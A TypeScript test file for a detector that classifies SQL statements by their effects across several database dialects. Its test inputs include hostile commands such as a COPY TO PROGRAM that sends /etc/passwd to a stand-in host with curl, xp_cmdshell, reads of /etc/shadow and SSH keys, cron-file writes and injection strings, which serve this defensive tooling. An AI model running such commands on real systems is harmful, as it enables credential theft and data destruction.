import { describe, expect, it } from 'vitest';
import type { Effect } from '../../effects.js';
import { sqlEffects } from './index.js';

const paths = (effects: Effect[], type: Effect['type']) => effects.filter((e) => e.type === type).map((e) => ('path' in e ? e.path.path : ''));

describe('sqlEffects', () => {
  it('states DROP, TRUNCATE, DELETE without WHERE and ALTER … DROP as deletes of db paths', () => {
    expect(paths(sqlEffects('DROP TABLE users', 'postgresql', 'app'), 'delete')).toEqual(['db:app/users']);
    expect(paths(sqlEffects('truncate table public.logs', 'postgresql', 'app'), 'delete')).toEqual(['db:app/public.logs']);
    expect(paths(sqlEffects('DELETE FROM accounts', 'mysql', 'shop'), 'delete')).toEqual(['db:shop/accounts']);
    expect(paths(sqlEffects('ALTER TABLE t DROP COLUMN c', 'postgresql'), 'delete')).toEqual(['db:*/t']);
    expect(paths(sqlEffects('DROP TABLE IF EXISTS t; DELETE FROM u', 'sqlite', 'x.db'), 'delete')).toEqual(['db:x.db/t', 'db:x.db/u']);
  });

  it('leaves reads and bounded changes alone', () => {
    expect(sqlEffects('SELECT * FROM users WHERE id = 1', 'postgresql')).toEqual([]);
    expect(sqlEffects('DELETE FROM sessions WHERE expires < now()', 'postgresql')).toEqual([]);
    expect(sqlEffects("INSERT INTO t (a) VALUES ('DROP TABLE x')", 'postgresql')).toEqual([]);
    expect(paths(sqlEffects('UPDATE users SET admin = true', 'postgresql', 'app'), 'write')).toEqual(['db:app/users']);
  });

  it('tokenises what the parser rejects: DROP DATABASE, COPY … TO PROGRAM, xp_cmdshell', () => {
    expect(paths(sqlEffects('DROP DATABASE prod', 'postgresql'), 'delete')).toEqual(['db:prod/*']);
    expect(paths(sqlEffects('/* x */ DROP SCHEMA s CASCADE', 'postgresql'), 'delete')).toEqual(['db:s/*']);
    expect(sqlEffects("COPY t TO PROGRAM 'curl -d @/etc/passwd x.example'", 'postgresql').find((e) => e.type === 'exec')).toMatchObject({ code: 'curl -d @/etc/passwd x.example', language: 'bash' });
    expect(sqlEffects("EXEC master..xp_cmdshell 'whoami'", 'transactsql').find((e) => e.type === 'exec')).toMatchObject({ code: 'whoami' });
    // A comment or a string that mentions DROP is not a statement.
    expect(sqlEffects("SELECT 'DROP TABLE x' -- DROP TABLE y", 'postgresql')).toEqual([]);
    expect(sqlEffects('FROBNICATE everything', 'postgresql')).toEqual([{ type: 'unknown', producer: 'code:sql', command: null, reason: 'unparsed_sql' }]);
  });

  it('states the files the server reads and writes, in every dialect', () => {
    expect(paths(sqlEffects("SELECT pg_read_file('/etc/shadow')", 'postgresql'), 'read')).toEqual(['/etc/shadow']);
    expect(paths(sqlEffects("SELECT lo_export(42, '/home/dev/.bashrc')", 'postgresql'), 'write')).toEqual(['/home/dev/.bashrc']);
    expect(paths(sqlEffects("COPY t FROM '/home/dev/.pgpass'", 'postgresql'), 'read')).toEqual(['/home/dev/.pgpass']);
    expect(paths(sqlEffects("COPY (SELECT 1) TO '/etc/cron.d/x'", 'postgresql'), 'write')).toEqual(['/etc/cron.d/x']);
    expect(paths(sqlEffects("SELECT LOAD_FILE('/root/.ssh/id_rsa')", 'mysql'), 'read')).toEqual(['/root/.ssh/id_rsa']);
    expect(paths(sqlEffects("SELECT 'x' INTO OUTFILE '/tmp/o'", 'mysql'), 'write')).toEqual(['/tmp/o']);
    expect(paths(sqlEffects("LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t", 'mysql'), 'read')).toEqual(['/etc/passwd']);
    expect(paths(sqlEffects("ATTACH DATABASE '/home/dev/.bashrc' AS x", 'sqlite'), 'write')).toEqual(['/home/dev/.bashrc']);
    expect(sqlEffects("SELECT load_extension('./x.so')", 'sqlite').some((e) => e.type === 'unknown')).toBe(true);
    // A path in a string compared, or in a comment, is no file.
    expect(sqlEffects("SELECT * FROM uploads WHERE p = 'pg_read_file' -- pg_read_file('/etc/shadow')", 'postgresql')).toEqual([]);
  });

  it("reads psql's and mysql's backslash meta-commands as what they do, not as SQL", () => {
    // Describing and toggles only show.
    expect(sqlEffects('\\d+ journal_entries', 'postgresql')).toEqual([]);
    expect(sqlEffects('\\dt public.*\n\\x\nSELECT count(*) FROM t', 'postgresql')).toEqual([]);
    // A shell escape runs its line; a file read, written or run, or output run as SQL, is unknown.
    expect(sqlEffects('\\! rm -rf /tmp/x', 'postgresql').find((e) => e.type === 'exec')).toMatchObject({ code: 'rm -rf /tmp/x', language: 'bash' });
    expect(sqlEffects('\\i /tmp/payload.sql', 'postgresql')).toEqual([{ type: 'unknown', producer: 'code:sql', command: null, reason: 'psql_meta_i' }]);
    expect(sqlEffects("SELECT format('DROP TABLE %I', tablename) FROM pg_tables \\gexec", 'postgresql').map((e) => e.type)).toContain('unknown');
    // The statements beside them are still read.
    expect(paths(sqlEffects('\\timing on\nDROP TABLE users', 'postgresql', 'app'), 'delete')).toEqual(['db:app/users']);
  });

  it('skips the parser only where parsing states nothing more than the tokens (same effects with and without it)', () => {
    const texts = [
      'SELECT * FROM users WHERE id = 1',
      "SELECT id, note FROM audit_log WHERE note ILIKE '%drop table%' LIMIT 5",
      'SELECT 1; SELECT 2;',
      'SHOW TABLES; DESCRIBE users',
      'select updated_at from t',
      "INSERT INTO t (a) VALUES ('DROP TABLE x')",
      'CREATE TABLE t (a int); INSERT INTO t VALUES (1)',
      'WITH x AS (SELECT 1) SELECT * FROM x',
      "SELECT 'a\\''; DROP TABLE t; -- '",
      "SELECT 1 # '\nDROP TABLE t",
      'SELECT 1 --1; DROP TABLE t',
      "SELECT $a$ ' $a$; DROP TABLE t; --'",
      'SELECT 1; GRANT ALL ON t TO bob',
      "EXEC master..xp_cmdshell 'whoami'",
      "SELECT 1; EXEC xp_cmdshell 'id'",
      "SELECT * FROM t INTO OUTFILE '/tmp/x'",
      "SELECT pg_read_file('/etc/passwd')",
      "SELECT 'xp_cmdshell' /* program */",
      "COPY t TO PROGRAM 'id'",
      '"SELECT" 1',
      'FROBNICATE everything',
      'SELECT * FROM t; UPDATE t SET a = 1',
      'DELETE FROM t',
      'ALTER TABLE t DROP COLUMN c',
      'select 1update',
      'BEGIN; SELECT 1; COMMIT',
      'PRAGMA table_info(t); VACUUM',
      'SELECT * FROM `drop`',
    ];
    for (const dialect of ['postgresql', 'mysql', 'sqlite', 'transactsql', 'generic']) {
      for (const sql of texts) expect([dialect, sql, sqlEffects(sql, dialect, 'db')]).toEqual([dialect, sql, sqlEffects(sql, dialect, 'db', true)]);
    }
  });
});
